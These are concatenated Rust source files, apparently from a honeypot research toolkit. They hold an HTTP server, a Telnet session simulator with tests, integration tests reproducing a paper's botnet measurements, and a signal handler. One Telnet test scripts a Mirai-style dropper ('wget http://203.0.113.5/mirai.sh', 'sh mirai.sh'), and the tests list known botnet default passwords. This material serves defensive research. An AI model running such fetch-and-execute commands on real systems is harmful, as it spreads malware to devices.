    cell: Arc<SnapshotCell<ApiSnapshot>>,
    bus: Arc<EventBus>,
    shutdown: Arc<AtomicBool>,
) -> Result<HttpHandle, ServeError> {
    let addr = SocketAddr::new(bind, port);
    let listener = TcpListener::bind(addr).map_err(|e| ServeError::Bind {
        addr: addr.to_string(),
        source: e,
    })?;
    listener
        .set_nonblocking(true)
        .map_err(|e| ServeError::Bind {
            addr: addr.to_string(),
            source: e,
        })?;
    let addr = listener.local_addr().map_err(|e| ServeError::Bind {
        addr: "<bound>".into(),
        source: e,
    })?;

    let workers = workers.max(1);
    let mut senders: Vec<Sender<TcpStream>> = Vec::with_capacity(workers);
    let mut worker_threads = Vec::with_capacity(workers);
    for i in 0..workers {
        let (tx, rx) = std::sync::mpsc::channel::<TcpStream>();
        senders.push(tx);
        let cell = Arc::clone(&cell);
        let bus = Arc::clone(&bus);
        let shutdown = Arc::clone(&shutdown);
        worker_threads.push(
            std::thread::Builder::new()
                .name(format!("http-worker-{i}"))
                .spawn(move || worker_loop(&rx, &cell, &bus, &shutdown))
                .expect("spawn http worker"),
        );
    }

    let accept_thread = {
        let shutdown = Arc::clone(&shutdown);
        std::thread::Builder::new()
            .name("http-accept".into())
            .spawn(move || accept_loop(listener, senders, &shutdown))
            .expect("spawn http accept thread")
    };

    Ok(HttpHandle {
        addr,
        accept_thread,
        workers: worker_threads,
    })
}

fn accept_loop(listener: TcpListener, senders: Vec<Sender<TcpStream>>, shutdown: &AtomicBool) {
    let mut n: usize = 0;
    while !shutdown.load(Ordering::Relaxed) {
        match listener.accept() {
            Ok((stream, _peer)) => {
                if stream.set_nonblocking(true).is_err() {
                    continue;
                }
                let _ = stream.set_nodelay(true);
                let shard = n % senders.len();
                n = n.wrapping_add(1);
                let _ = senders[shard].send(stream); // teardown: drop = close
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock => {
                std::thread::sleep(Duration::from_millis(2));
            }
            Err(e) if e.kind() == ErrorKind::Interrupted => continue,
            Err(_) => std::thread::sleep(Duration::from_millis(10)),
        }
    }
    // Listener drops here: further connects are refused during drain.
}

fn worker_loop(
    rx: &Receiver<TcpStream>,
    cell: &SnapshotCell<ApiSnapshot>,
    bus: &EventBus,
    shutdown: &AtomicBool,
) {
    let mut conns: Vec<HttpConn> = Vec::new();
    let mut intake_open = true;
    loop {
        while intake_open {
            match rx.try_recv() {
                Ok(stream) => {
                    if conns.len() >= MAX_HTTP_CONNECTIONS {
                        drop(stream); // shed at the door
                        continue;
                    }
                    conns.push(HttpConn::new(stream));
                }
                Err(TryRecvError::Empty) => break,
                Err(TryRecvError::Disconnected) => intake_open = false,
            }
        }
        let draining = shutdown.load(Ordering::Relaxed);
        let mut i = 0;
        while i < conns.len() {
            if conns[i].pump(cell, bus, draining) {
                conns.swap_remove(i);
            } else {
                i += 1;
            }
        }
        if conns.is_empty() && !intake_open {
            return;
        }
        std::thread::sleep(Duration::from_millis(if conns.is_empty() { 5 } else { 1 }));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parse_all(parser: &mut RequestParser) -> Vec<Request> {
        let mut out = Vec::new();
        while let Ok(Some(req)) = parser.next_request() {
            out.push(req);
        }
        out
    }

    #[test]
    fn parses_a_plain_get() {
        let mut p = RequestParser::new();
        p.push(b"GET /api/stats HTTP/1.1\r\nHost: localhost\r\n\r\n");
        let reqs = parse_all(&mut p);
        assert_eq!(reqs.len(), 1);
        assert_eq!(reqs[0].method, "GET");
        assert_eq!(reqs[0].target, "/api/stats");
        assert!(reqs[0].keep_alive);
    }

    #[test]
    fn connection_close_and_http10_disable_keep_alive() {
        let mut p = RequestParser::new();
        p.push(b"GET / HTTP/1.1\r\nConnection: close\r\n\r\nGET / HTTP/1.0\r\n\r\n");
        let reqs = parse_all(&mut p);
        assert_eq!(reqs.len(), 2);
        assert!(!reqs[0].keep_alive);
        assert!(!reqs[1].keep_alive);
    }

    #[test]
    fn torn_requests_reassemble_at_every_split_point() {
        let raw = b"GET /api/health HTTP/1.1\r\nHost: h\r\nAccept: */*\r\n\r\n";
        for split in 1..raw.len() - 1 {
            let mut p = RequestParser::new();
            p.push(&raw[..split]);
            assert_eq!(p.next_request(), Ok(None), "torn at {split}");
            p.push(&raw[split..]);
            let req = p.next_request().unwrap().expect("complete");
            assert_eq!(req.target, "/api/health");
        }
    }

    #[test]
    fn pipelined_requests_come_out_in_order() {
        let mut p = RequestParser::new();
        p.push(b"GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\nGET /c HTTP/1.1\r\n\r\n");
        let targets: Vec<String> = parse_all(&mut p).into_iter().map(|r| r.target).collect();
        assert_eq!(targets, vec!["/a", "/b", "/c"]);
    }

    #[test]
    fn oversized_head_is_rejected() {
        let mut p = RequestParser::new();
        p.push(b"GET / HTTP/1.1\r\n");
        let filler = vec![b'a'; MAX_REQUEST_BYTES + 64];
        p.push(&filler);
        assert_eq!(p.next_request(), Err(ParseError::TooLarge));
        // A terminated-but-huge head is equally rejected.
        let mut p = RequestParser::new();
        p.push(b"GET / HTTP/1.1\r\nX-Pad: ");
        p.push(&filler);
        p.push(b"\r\n\r\n");
        assert_eq!(p.next_request(), Err(ParseError::TooLarge));
    }

    #[test]
    fn malformed_heads_are_rejected_not_panicked() {
        for bad in [
            &b"\r\n\r\n"[..],
            b"GET\r\n\r\n",
            b"GET / HTTP/2.0\r\n\r\n",
            b"GET noslash HTTP/1.1\r\n\r\n",
            b"GET / HTTP/1.1 extra\r\n\r\n",
            b"GET / HTTP/1.1\r\nnocolon\r\n\r\n",
            b"\xff\xfe / HTTP/1.1\r\n\r\n",
        ] {
            let mut p = RequestParser::new();
            p.push(bad);
            assert_eq!(p.next_request(), Err(ParseError::Malformed), "{bad:?}");
        }
    }

    /// Deterministic torn-chunk fuzz: a pipelined request stream fed at
    /// every chunk size from 1 byte up always yields the same requests.
    #[test]
    fn chunking_never_changes_the_parse() {
        let stream =
            b"GET /api/stats HTTP/1.1\r\nHost: x\r\n\r\nGET /events HTTP/1.1\r\nAccept: text/event-stream\r\n\r\nGET / HTTP/1.0\r\nConnection: keep-alive\r\n\r\n";
        let mut reference = RequestParser::new();
        reference.push(stream);
        let expect = parse_all(&mut reference);
        assert_eq!(expect.len(), 3);
        for chunk in 1..=stream.len() {
            let mut p = RequestParser::new();
            let mut got = Vec::new();
            for piece in stream.chunks(chunk) {
                p.push(piece);
                got.extend(parse_all(&mut p));
            }
            assert_eq!(got, expect, "chunk size {chunk}");
        }
    }

    #[test]
    fn routing_serves_every_endpoint_and_404s_the_rest() {
        let snap = ApiSnapshot::sample();
        let get = |target: &str| Request {
            method: "GET".into(),
            target: target.into(),
            keep_alive: true,
        };
        for (target, kind) in [
            ("/", "index"),
            ("/api/stats", "stats"),
            ("/api/sessions/recent", "sessions_recent"),
            ("/api/credentials/top", "credentials_top"),
            ("/api/health", "health"),
            ("/api/stats?pretty=1", "stats"),
        ] {
            match route(&get(target), &snap) {
                Routed::Json { status, doc } => {
                    assert_eq!(status, 200, "{target}");
                    assert_eq!(doc.get("kind").and_then(Json::as_str), Some(kind));
                }
                Routed::EventStream => panic!("{target} should not stream"),
            }
        }
        assert!(matches!(route(&get("/events"), &snap), Routed::EventStream));
        match route(&get("/api/nope"), &snap) {
            Routed::Json { status, .. } => assert_eq!(status, 404),
            _ => panic!("404 expected"),
        }
        let post = Request {
            method: "POST".into(),
            ..get("/api/stats")
        };
        match route(&post, &snap) {
            Routed::Json { status, .. } => assert_eq!(status, 405),
            _ => panic!("405 expected"),
        }
    }

    #[test]
    fn json_response_frames_content_length_exactly() {
        let doc = error_json(404, "unknown endpoint");
        let bytes = json_response(404, &doc, false);
        let text = String::from_utf8(bytes).unwrap();
        let (head, body) = text.split_once("\r\n\r\n").unwrap();
        assert!(head.starts_with("HTTP/1.1 404 Not Found"));
        let len: usize = head
            .lines()
            .find_map(|l| l.strip_prefix("Content-Length: "))
            .unwrap()
            .parse()
            .unwrap();
        assert_eq!(len, body.len());
        assert_eq!(Json::parse(body).unwrap(), doc);
    }
}
