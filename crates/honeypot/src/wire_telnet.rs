//! Telnet wire path: the honeypot policy and shell driven through a real
//! `telwire` dialogue (the port-23 counterpart of [`crate::wire`]).

use crate::auth::AuthPolicy;
use crate::record::{CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord};
use crate::shell::{RemoteStore, Shell};
use hutil::DateTime;
use netsim::Ipv4Addr;
use telwire::{
    run_telnet_dialogue, TelnetClient, TelnetError, TelnetHandler, TelnetScript, TelnetServer,
};

/// Bridges the honeypot policy and shell into `telwire`'s handler trait.
pub struct TelnetWireHandler<'s> {
    policy: AuthPolicy,
    shell: Shell<'s>,
    commands: Vec<CommandRecord>,
}

impl<'s> TelnetWireHandler<'s> {
    /// New handler over a fresh shell.
    pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
        Self {
            policy,
            shell: Shell::new(store),
            commands: Vec::new(),
        }
    }
}

impl TelnetHandler for TelnetWireHandler<'_> {
    fn auth(&mut self, username: &str, password: &str) -> bool {
        self.policy.accept(username, password)
    }

    fn exec(&mut self, command: &str) -> String {
        let outcome = self.shell.exec_line(command);
        self.commands.push(CommandRecord {
            input: command.to_string(),
            known: outcome.known,
        });
        let mut out = outcome.output;
        if !out.is_empty() && !out.ends_with('\n') {
            out.push_str("\r\n");
        }
        out
    }
}

/// Network identity for a Telnet wire session.
#[derive(Debug, Clone)]
pub struct TelnetSessionMeta {
    /// Target sensor id.
    pub honeypot_id: u16,
    /// Target sensor address.
    pub honeypot_ip: Ipv4Addr,
    /// Source address.
    pub client_ip: Ipv4Addr,
    /// Source port.
    pub client_port: u16,
    /// Handshake completion instant.
    pub start: DateTime,
}

/// Runs a scripted bot against the honeypot over the Telnet protocol and
/// returns the session record plus total wire bytes.
pub fn run_telnet_session(
    meta: &TelnetSessionMeta,
    script: TelnetScript,
    policy: AuthPolicy,
    store: &dyn RemoteStore,
) -> Result<(SessionRecord, u64), TelnetError> {
    let client = TelnetClient::new(script);
    let server = TelnetServer::new(TelnetWireHandler::new(policy, store), "svr04");
    let (log, mut handler) = run_telnet_dialogue(client, server)?;
    let wire_bytes = log.bytes_to_server + log.bytes_to_client;

    let logins: Vec<LoginAttempt> = log
        .auth_log
        .iter()
        .map(|(u, p, ok)| LoginAttempt {
            username: u.clone(),
            password: p.clone(),
            success: *ok,
        })
        .collect();
    let (uris, file_events) = handler.shell.take_observations();
    let rounds = 3 + logins.len() as i64 + handler.commands.len() as i64;
    let record = SessionRecord {
        session_id: 0,
        honeypot_id: meta.honeypot_id,
        honeypot_ip: meta.honeypot_ip,
        client_ip: meta.client_ip,
        client_port: meta.client_port,
        protocol: Protocol::Telnet,
        start: meta.start,
        end: meta.start.plus_secs(rounds),
        end_reason: SessionEndReason::ClientClose,
        client_version: None, // Telnet has no identification string
        logins,
        commands: std::mem::take(&mut handler.commands),
        uris,
        file_events,
    };
    Ok((record, wire_bytes))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::FileOp;
    use hutil::Date;

    fn meta() -> TelnetSessionMeta {
        TelnetSessionMeta {
            honeypot_id: 9,
            honeypot_ip: Ipv4Addr::from_octets(100, 0, 0, 9),
            client_ip: Ipv4Addr::from_octets(10, 3, 3, 3),
            client_port: 23456,
            start: Date::new(2022, 9, 9).at(3, 0, 0),
        }
    }

    #[test]
    fn telnet_iot_bot_session() {
        let fetch =
            |uri: &str| (uri == "http://203.0.113.5/mirai.sh").then(|| b"#!/bin/sh\nM\n".to_vec());
        let script = TelnetScript {
            logins: vec![
                ("root".into(), "root".into()), // rejected
                ("root".into(), "vertex25ektks123".into()),
            ],
            commands: vec![
                "cd /tmp".into(),
                "wget http://203.0.113.5/mirai.sh".into(),
                "sh mirai.sh".into(),
            ],
        };
        let (rec, bytes) =
            run_telnet_session(&meta(), script, AuthPolicy::default(), &fetch).unwrap();
        assert_eq!(rec.protocol, Protocol::Telnet);
        assert_eq!(rec.logins.len(), 2);
        assert!(!rec.logins[0].success && rec.logins[1].success);
        assert_eq!(rec.commands.len(), 3);
        assert!(rec
            .uris
            .contains(&"http://203.0.113.5/mirai.sh".to_string()));
        assert!(rec
            .file_events
            .iter()
            .any(|e| matches!(e.op, FileOp::Created { .. })));
        assert!(rec.attempts_exec());
        assert!(bytes > 100);
    }

    #[test]
    fn telnet_scouting_session() {
        let store = crate::shell::NullStore;
        let script = TelnetScript {
            logins: vec![
                ("admin".into(), "admin".into()),
                ("root".into(), "root".into()),
                ("guest".into(), "guest".into()),
            ],
            commands: vec!["id".into()],
        };
        let (rec, _) = run_telnet_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
        assert!(!rec.login_succeeded());
        assert!(rec.commands.is_empty());
        assert_eq!(rec.logins.len(), 3);
    }

    #[test]
    fn telnet_record_has_no_client_version() {
        let store = crate::shell::NullStore;
        let script = TelnetScript {
            logins: vec![("root".into(), "tvbox".into())],
            commands: vec![],
        };
        let (rec, _) = run_telnet_session(&meta(), script, AuthPolicy::default(), &store).unwrap();
        assert!(rec.client_version.is_none());
        assert!(rec.login_succeeded());
    }
}
