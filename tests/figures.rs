//! Integration tests: every headline claim of the paper's evaluation,
//! asserted end-to-end over one generated dataset through the public API.

use honeylab::core::{logins, mdrfckr, report, storage_analysis as sa};
use honeylab::prelude::*;
use hutil::Month;
use std::sync::OnceLock;

fn ds() -> &'static Dataset {
    static DS: OnceLock<Dataset> = OnceLock::new();
    DS.get_or_init(|| {
        let mut cfg = DriverConfig::default_scale(2024);
        cfg.session_scale = 4_000; // ~160k sessions: fast but statistically solid
        cfg.ip_scale = 120;
        botnet::generate_dataset(&cfg)
    })
}

fn cl() -> &'static Classifier {
    static CL: OnceLock<Classifier> = OnceLock::new();
    CL.get_or_init(Classifier::table1)
}

#[test]
fn s33_taxonomy_ordering_and_magnitudes() {
    let stats = TaxonomyStats::compute(&ds().sessions);
    assert!(stats.ordering_matches_paper());
    // Relative magnitudes (paper: 45/258/80/163M of 546M SSH).
    let ssh = stats.ssh_sessions as f64;
    assert!((stats.scouting as f64 / ssh) > 0.35, "scouting share");
    assert!(
        (stats.command_execution as f64 / ssh) > 0.20,
        "cmd-exec share"
    );
    assert!((stats.scanning as f64 / ssh) < 0.15, "scanning share");
}

#[test]
fn s5_table1_coverage_exceeds_99_percent() {
    let cov = report::classification_coverage(&ds().sessions, cl());
    assert!(cov > 0.99, "coverage {cov}");
}

#[test]
fn fig1_2023_shift_toward_exploration() {
    let f = report::fig1(&ds().sessions);
    let ix = |y, m| {
        f.months
            .iter()
            .position(|x| *x == Month::new(y, m))
            .unwrap()
    };
    let nc = |i: usize| f.not_changing[i].as_ref().unwrap().median;
    let ch = |i: usize| f.changing[i].as_ref().unwrap().median;
    // 2022: comparable rates; 2023+: non-state-changing dominates.
    assert!(nc(ix(2023, 6)) > ch(ix(2023, 6)));
    assert!(nc(ix(2023, 6)) > 1.5 * nc(ix(2022, 6)));
    // Early-2022 spike in state-changing activity (Ukraine-war wave).
    assert!(ch(ix(2022, 2)) > 1.5 * ch(ix(2021, 12)));
}

#[test]
fn fig2_top3_carry_most_scout_sessions() {
    let f = report::fig2(&ds().sessions, cl());
    let totals = f.totals();
    let all: u64 = totals.iter().map(|(_, c)| c).sum();
    let top3: u64 = totals.iter().take(3).map(|(_, c)| c).sum();
    assert!(top3 as f64 / all as f64 > 0.80, "paper: top-3 > 95%");
    assert_eq!(totals[0].0, "echo_OK");
}

#[test]
fn fig3a_mdrfckr_over_80_percent() {
    let f = report::fig3a(&ds().sessions, cl());
    let totals = f.totals();
    let all: u64 = totals.iter().map(|(_, c)| c).sum();
    assert_eq!(totals[0].0, "mdrfckr");
    assert!(totals[0].1 as f64 / all as f64 > 0.8, "paper: >90%");
}

#[test]
fn fig3b_decline_and_bbox_unlabelled_death() {
    let f = report::fig3b(&ds().sessions, cl());
    let ix = |y, m| {
        f.months
            .iter()
            .position(|x| *x == Month::new(y, m))
            .unwrap()
    };
    // Exec activity declines markedly from late 2022 onward.
    let h1_2022: u64 = (0..6).map(|i| f.month_total(ix(2022, 1) + i)).sum();
    let h1_2024: u64 = (0..6).map(|i| f.month_total(ix(2024, 1) + i)).sum();
    assert!(h1_2024 * 2 < h1_2022, "{h1_2022} -> {h1_2024}");
    // bbox_unlabelled ends abruptly mid-2022 with no successor.
    let li = f
        .labels
        .iter()
        .position(|l| l == "bbox_unlabelled")
        .unwrap();
    assert!(f.counts[ix(2022, 5)][li] > 0);
    let after: u64 = (ix(2022, 8)..f.months.len())
        .map(|mi| f.counts[mi][li])
        .sum();
    assert_eq!(after, 0, "bbox_unlabelled must stay dead");
    // bb_5_diff_char_v2 remains active to the end.
    let b5 = f.labels.iter().position(|l| l == "bbox_5_char_v2").unwrap();
    assert!(f.counts[ix(2024, 6)][b5] > 0);
}

#[test]
fn fig4_file_exists_collapse() {
    let (exists, missing) = report::fig4(&ds().sessions, cl());
    let year_total = |mc: &report::MonthlyCategories, y: i32| -> u64 {
        mc.months
            .iter()
            .enumerate()
            .filter(|(_, m)| m.year == y)
            .map(|(i, _)| mc.month_total(i))
            .sum()
    };
    let e22 = year_total(&exists, 2022);
    let e23 = year_total(&exists, 2023);
    assert!(e23 * 5 < e22, "paper: >100k/mo -> ~5k/mo: {e22} -> {e23}");
    // Missing dominates exists overall ~4:1 (paper: 12M vs 3M).
    let m_all: u64 = (0..missing.months.len())
        .map(|i| missing.month_total(i))
        .sum();
    let e_all: u64 = (0..exists.months.len())
        .map(|i| exists.month_total(i))
        .sum();
    assert!(m_all > 2 * e_all, "missing {m_all} vs exists {e_all}");
}

#[test]
fn fig5_6_clusters_recover_families() {
    let ca = report::cluster_analysis(&ds().sessions, &ds().abuse, 40, 7);
    // Top clusters carry >90% of file sessions (paper: five labelled
    // clusters cover >90%).
    let top = ca.top_clusters(5);
    let top_sessions: u64 = top.iter().map(|(_, n)| n).sum();
    let all: u64 = ca.weights.iter().sum();
    assert!(top_sessions as f64 / all as f64 > 0.5);
    // Families from the abuse DB appear among cluster labels.
    let label_text = ca.labels.join(" | ");
    let named = ["Mirai", "Gafgyt", "CoinMiner", "XorDDoS", "Dofloo"]
        .iter()
        .filter(|f| label_text.contains(**f))
        .count();
    assert!(named >= 2, "families in labels: {label_text}");
    // Abuse coverage of hashes stays below ~7% (paper: <5%).
    let labelled = ds()
        .ground_truth
        .keys()
        .filter(|h| ds().abuse.lookup(h).is_some())
        .count();
    let frac = labelled as f64 / ds().ground_truth.len() as f64;
    assert!(frac < 0.10, "hash label coverage {frac}");
}

#[test]
fn fig7_client_isp_storage_hosting() {
    let events = sa::download_events(&ds().sessions);
    let flows = sa::sankey_flows(&events, &ds().world.registry);
    let total: u64 = flows.iter().map(|f| f.events).sum();
    let client_isp: u64 = flows
        .iter()
        .filter(|f| f.client_type == asdb::AsType::IspNsp)
        .map(|f| f.events)
        .sum();
    let storage_hosting: u64 = flows
        .iter()
        .filter(|f| f.storage_type == asdb::AsType::Hosting)
        .map(|f| f.events)
        .sum();
    assert!(
        client_isp as f64 / total as f64 > 0.5,
        "clients mostly ISP/NSP"
    );
    assert!(
        storage_hosting as f64 / total as f64 > 0.5,
        "storage mostly hosting"
    );
}

#[test]
fn s7_storage_stats_match_paper() {
    let events = sa::download_events(&ds().sessions);
    let st = sa::storage_stats(&events, &ds().abuse);
    assert!(
        (0.70..0.92).contains(&st.different_ip_frac),
        "paper: 80%, got {}",
        st.different_ip_frac
    );
    assert!(
        st.unique_download_clients > 4 * st.unique_storage_ips,
        "paper: one order of magnitude ({} vs {})",
        st.unique_download_clients,
        st.unique_storage_ips
    );
    assert!(
        (0.40..0.72).contains(&st.storage_ip_reported_frac),
        "paper: 56%, got {}",
        st.storage_ip_reported_frac
    );
}

#[test]
fn fig8_census_age_and_size() {
    let events = sa::download_events(&ds().sessions);
    let census = sa::storage_as_census(&events, &ds().world.registry, Date::new(2024, 8, 31));
    assert!(census.total > 50, "census total {}", census.total);
    assert!(census.hosting > census.isp * 5, "hosting-dominated census");
    // AS-weighted census (diluted by old self-hosting client ASes).
    assert!(
        census.younger_1y_frac > 0.20,
        "paper: >35%; got {}",
        census.younger_1y_frac
    );
    assert!(
        census.younger_5y_frac > 0.50,
        "paper: >70%; got {}",
        census.younger_5y_frac
    );
    // Session-weighted ("in more than 70% of cases"), via Fig. 8a.
    let age = sa::as_age_by_month(&events, &ds().world.registry);
    let (mut young, mut mid, mut old) = (0u64, 0u64, 0u64);
    for v in age.values() {
        young += v[0];
        mid += v[1];
        old += v[2];
    }
    let tot = (young + mid + old) as f64;
    assert!(
        (young + mid) as f64 / tot > 0.55,
        "session-weighted <5y share {} (paper: >70%)",
        (young + mid) as f64 / tot
    );
    // Size marginals via monthly aggregation.
    let size = sa::as_size_by_month(&events, &ds().world.registry);
    let (mut one, mut small, mut big) = (0u64, 0u64, 0u64);
    for v in size.values() {
        one += v[0];
        small += v[1];
        big += v[2];
    }
    let tot = (one + small + big) as f64;
    assert!(one as f64 / tot > 0.05, "single-/24 share");
    assert!((one + small) as f64 / tot > 0.25, "sub-50 share");
}

#[test]
fn fig9_reuse_shape() {
    let events = sa::successful_download_events(&ds().sessions);
    let rows =
        sa::reuse_buckets_by_week(&events, 7, Date::new(2021, 12, 1), Date::new(2024, 8, 31));
    let mut agg = vec![0u64; sa::FIG9_BUCKETS.len()];
    for (_, counts) in &rows {
        for (i, v) in counts.iter().enumerate() {
            agg[i] += v;
        }
    }
    let total: u64 = agg.iter().sum();
    assert!(total > 0);
    // One-day IPs dominate the 1-week recall (paper: ~50%).
    assert!(
        agg[0] as f64 / total as f64 > 0.35,
        "one-day share {}/{total}",
        agg[0]
    );
    // Long reappearances exist (paper: ~25% over >=6 months).
    let frac = sa::long_reappearance_frac(&events);
    assert!((0.08..0.50).contains(&frac), "reappearance {frac}");
}

#[test]
fn fig10_password_story() {
    let top = logins::top_passwords(&ds().sessions, 5);
    assert!(
        top.passwords.contains(&"3245gs5662d34".to_string()),
        "{:?}",
        top.passwords
    );
    assert!(top.passwords.contains(&"admin".to_string()));
    // dreambox and vertex25ektks123 are synchronized.
    let p_dream = logins::password_profile(&ds().sessions, "dreambox");
    let p_vertex = logins::password_profile(&ds().sessions, "vertex25ektks123");
    assert!(p_dream.sessions > 0 && p_vertex.sessions > 0);
    let ratio = p_dream.sessions as f64 / p_vertex.sessions as f64;
    assert!(
        (0.5..2.0).contains(&ratio),
        "synchronized campaigns: {ratio}"
    );
    // 3245gs5662d34: starts 2022-12-08 at 18:00, no commands ever.
    let p = logins::password_profile(&ds().sessions, "3245gs5662d34");
    let first = p.first_seen.expect("campaign exists");
    assert_eq!(first.date(), Date::new(2022, 12, 8));
    assert!(first.hour() >= 18);
    assert!(p.no_command_frac > 0.999);
}

#[test]
fn fig11_phil_fingerprinting() {
    let probes = logins::cowrie_default_probes(&ds().sessions);
    let phil: u64 = probes.phil_success.values().sum();
    let richard: u64 = probes.richard_tries.values().sum();
    assert!(phil > 0 && richard > 0);
    assert!(
        probes.phil_no_command_frac > 0.9,
        "paper: >90% immediate disconnect"
    );
    // richard never succeeds on this Cowrie version.
    let richard_success = ds().sessions.iter().any(|s| {
        s.logins
            .iter()
            .any(|l| l.username == "richard" && l.success)
    });
    assert!(!richard_success);
}

#[test]
fn fig12_13_mdrfckr_case_study() {
    let tl = mdrfckr::timeline(&ds().sessions);
    let dips = mdrfckr::detect_dips(&tl, 0.12);
    // Most documented windows are rediscovered (short 2-day windows can be
    // missed at test scale).
    let documented = botnet::mdrfckr_dip_windows();
    let hits = documented
        .iter()
        .filter(|w| dips.iter().any(|(s, e)| *s <= w.end && *e >= w.start))
        .count();
    assert!(hits >= 5, "rediscovered {hits}/8 dip windows: {dips:?}");
    // Variant appears with the 3245 campaign (2022-12) and is ~10x smaller.
    let vs = mdrfckr::variant_series(&ds().sessions);
    let first_variant = vs
        .monthly
        .iter()
        .find(|(_, v)| v[1] > 0)
        .map(|(m, _)| *m)
        .unwrap();
    assert_eq!(first_variant, Month::new(2022, 12));
    let (init_total, var_total): (u64, u64) = vs
        .monthly
        .values()
        .fold((0, 0), |acc, v| (acc.0 + v[0], acc.1 + v[1]));
    assert!(
        var_total * 5 < init_total,
        "variant order-of-magnitude smaller"
    );
    // IP overlap with the credential campaign (paper: 99.4%). The pool
    // overlap is exact by construction; the observed-session overlap is
    // bounded below by sampling coverage at this scale.
    let mdr_pool: std::collections::HashSet<_> = ds().pools["mdrfckr"].iter().collect();
    let shared = ds().pools["cred3245"]
        .iter()
        .filter(|ip| mdr_pool.contains(ip))
        .count();
    assert!(shared as f64 / ds().pools["cred3245"].len() as f64 > 0.99);
    assert!(mdrfckr::cred_overlap_frac(&ds().sessions) > 0.75);
    // Killnet overlap exists.
    assert!(mdrfckr::killnet_overlap(&ds().sessions, &ds().killnet) >= 1);
}

#[test]
fn s9_base64_payloads_only_during_dips() {
    let sessions = &ds().sessions;
    let documented: Vec<(Date, Date)> = botnet::mdrfckr_dip_windows()
        .into_iter()
        .map(|w| (w.start, w.end))
        .collect();
    let b64 = mdrfckr::b64_analysis(sessions, &documented);
    assert!(b64.sessions > 0, "b64 uploads exist");
    assert_eq!(b64.undecodable, 0);
    // All three payload kinds appear over the full run.
    assert!(b64.by_payload.len() >= 2, "{:?}", b64.by_payload);
    // Cleanup scripts name exactly the 8 C2 IPs, all present in the feed.
    if !b64.c2_ips.is_empty() {
        assert_eq!(b64.c2_ips.len(), 8);
        assert!(b64.c2_ips.iter().all(|ip| ds().c2_list.contains(*ip)));
    }
    assert!(b64.no_ip_reuse_across_dips, "dispersed infrastructure");
    // And every b64 session lies inside a documented dip window.
    for rec in sessions.iter() {
        if rec.commands.iter().any(|c| c.input.contains("base64 -d")) {
            let d = rec.start.date();
            assert!(
                documented.iter().any(|(s, e)| d >= *s && d <= *e),
                "b64 upload outside dips on {d}"
            );
        }
    }
}

#[test]
fn appendix_c_curl_proxy_abuse() {
    let curl: Vec<_> = ds()
        .sessions
        .iter()
        .filter(|s| s.command_text().contains("--max-redirs"))
        .collect();
    assert!(!curl.is_empty());
    let clients: std::collections::HashSet<_> = curl.iter().map(|s| s.client_ip).collect();
    assert!(clients.len() <= 4, "paper: exactly four clients");
    let window_ok = curl.iter().all(|s| {
        let d = s.start.date();
        d >= Date::new(2024, 1, 1) && d <= Date::new(2024, 4, 30)
    });
    assert!(window_ok, "campaign confined to Jan-Apr 2024");
    let avg_cmds = curl.iter().map(|s| s.commands.len()).sum::<usize>() / curl.len();
    assert!(
        (80..=120).contains(&avg_cmds),
        "paper: ~100 curls/session, got {avg_cmds}"
    );
    // Proxy targets never touch the filesystem.
    assert!(curl
        .iter()
        .all(|s| !s.changes_state() || s.command_text().contains("mdrfckr")));
}

#[test]
fn maintenance_outage_is_respected() {
    let n = ds()
        .sessions
        .iter()
        .filter(|s| {
            let d = s.start.date();
            d == Date::new(2023, 10, 8) || d == Date::new(2023, 10, 9)
        })
        .count();
    assert_eq!(n, 0);
}

#[test]
fn fleet_shape_matches_paper() {
    assert_eq!(ds().fleet.len(), 221);
    assert_eq!(ds().fleet.distinct_ases(), 65);
    assert_eq!(ds().fleet.distinct_countries(), 55);
}
