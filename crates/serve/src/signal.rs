//! SIGINT → graceful shutdown, with no libc dependency.
//!
//! The workspace vendors no FFI crates, so the installer declares the one
//! libc symbol it needs directly. The handler only flips an atomic — the
//! serving threads observe it on their next poll tick, which is the whole
//! shutdown protocol: nothing async-signal-unsafe ever runs in handler
//! context. On non-Unix targets installation is a no-op and shutdown is
//! triggered programmatically (stdin close, test harness, etc.).

use std::sync::atomic::{AtomicBool, Ordering};

/// Set by the signal handler; polled by accept loops and worker shards.
static INTERRUPTED: AtomicBool = AtomicBool::new(false);

/// True once SIGINT has been received (or [`trigger`] was called).
pub fn interrupted() -> bool {
    INTERRUPTED.load(Ordering::Relaxed)
}

/// Programmatic equivalent of SIGINT, for tests and stdin-close shutdown.
pub fn trigger() {
    INTERRUPTED.store(true, Ordering::Relaxed);
}

/// Clears the flag (between tests; a server installs once).
pub fn reset() {
    INTERRUPTED.store(false, Ordering::Relaxed);
}

#[cfg(unix)]
mod imp {
    const SIGINT: i32 = 2;

    extern "C" {
        fn signal(signum: i32, handler: extern "C" fn(i32)) -> usize;
    }

    extern "C" fn on_sigint(_sig: i32) {
        super::INTERRUPTED.store(true, std::sync::atomic::Ordering::Relaxed);
    }

    /// Installs the SIGINT handler.
    pub fn install() {
        unsafe {
            signal(SIGINT, on_sigint);
        }
    }
}

#[cfg(not(unix))]
mod imp {
    /// No signal support; [`super::trigger`] is the only path.
    pub fn install() {}
}

/// Installs the SIGINT handler (no-op off Unix).
pub fn install() {
    imp::install();
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trigger_and_reset_flip_the_flag() {
        reset();
        assert!(!interrupted());
        trigger();
        assert!(interrupted());
        reset();
        assert!(!interrupted());
    }
}
