//! The malware-hosting ecosystem (papers §6–§7).
//!
//! Storage IPs live inside the synthetic storage ASes (young, small,
//! hosting-heavy — see `asdb::gen`). Each IP has an *activity schedule*
//! calibrated to Fig. 9: at one-week recall ~50 % of storage IPs are active
//! a single day, ~20 % up to four days, ~30 % the whole week; ~25 % of IPs
//! reappear after six months or more. Download commands succeed only while
//! the serving IP is active — a dead dropper yields the honeypot's
//! `DownloadFailed` and, later, a "file missing" exec.
//!
//! File content is synthesised per `(family, variant)`; variants churn over
//! time and occasionally per download (malware polymorphism), producing the
//! large unique-hash population of §6 of which abuse feeds label only a
//! few percent.

use abusedb::MalwareFamily;
use hutil::rng::SeedTree;
use hutil::{Date, Sha256};
use netsim::Ipv4Addr;
use parking_lot::Mutex;
use rand::rngs::StdRng;
use rand::Rng;
